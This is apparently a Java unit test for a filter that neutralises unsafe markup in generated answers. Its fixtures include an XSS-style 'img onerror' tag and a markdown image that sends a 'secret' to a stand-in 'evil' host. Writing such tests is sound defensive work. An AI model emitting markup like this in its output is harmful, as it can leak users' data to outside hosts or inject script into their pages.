package dev.lectern.answering.writing;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class UnsafeMarkupFilterTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "a <img src=x onerror=y> b        | a \\<img src=x onerror=y> b",
                "</script>                        | \\</script>",
                "<!-- x -->                       | \\<!-- x -->",
                "1 < 2 and 2<3                    | 1 < 2 and 2<3",
                "![secret](http://evil/?q=secret) | ! [secret](http://evil/?q=secret)",
                "Stop! [1]                        | Stop! [1]",
                "`List<String>` is fine           | `List<String>` is fine",
                "ends with <                      | ends with <",
            })
    void filter_markup_becomesHarmless(String written, String expected) {
        UnsafeMarkupFilter whole = new UnsafeMarkupFilter();
        assertThat(whole.filter(written) + whole.end()).isEqualTo(expected);

        UnsafeMarkupFilter pieces = new UnsafeMarkupFilter();
        StringBuilder text = new StringBuilder();
        written.chars().forEach(c -> text.append(pieces.filter(Character.toString(c))));
        assertThat(text + pieces.end()).isEqualTo(expected);
    }
}
